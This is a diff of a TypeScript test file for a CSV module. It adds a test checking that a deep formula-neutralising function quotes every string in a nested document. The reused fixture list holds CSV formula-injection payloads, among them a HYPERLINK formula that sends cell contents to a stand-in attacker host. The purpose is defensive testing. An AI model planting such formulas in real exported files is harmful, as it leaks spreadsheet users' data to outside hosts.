@@ -1,7 +1,12 @@
 /* eslint-disable no-control-regex -- the oracle skips control characters too */
 import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
-import { createCsvStream, neutraliseSpreadsheetFormula, toCsv } from './csv';
+import {
+  createCsvStream,
+  neutraliseSpreadsheetFormula,
+  neutraliseSpreadsheetFormulasDeep,
+  toCsv,
+} from './csv';
 
 const payloads = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -23,6 +28,28 @@ const payloads = [
   '""@SUM(A1)',
   '"\t+cmd',
 ];
+
+describe('neutraliseSpreadsheetFormulasDeep', () => {
+  it('neutralises every string of a JSON document at any depth and keeps the rest', () => {
+    const document = {
+      title: 'Evidence',
+      props: payloads.map(value => ({ name: 'note', value })),
+      nested: { deeper: [[{ remarks: '@SUM(A1)' }]], count: 3, ok: true },
+      missing: null,
+      '=key': 'plain',
+    };
+    const safe = neutraliseSpreadsheetFormulasDeep(document);
+    expect(safe).toEqual({
+      title: 'Evidence',
+      props: payloads.map(value => ({ name: 'note', value: `'${value}` })),
+      nested: { deeper: [[{ remarks: "'@SUM(A1)" }]], count: 3, ok: true },
+      missing: null,
+      '=key': 'plain',
+    });
+    // A copy: the recorded document is left as it was.
+    expect(document.nested.deeper[0][0].remarks).toBe('@SUM(A1)');
+  });
+});
 
 describe('neutraliseSpreadsheetFormula', () => {
   it.each(payloads)('prefixes %j with a quote', payload => {
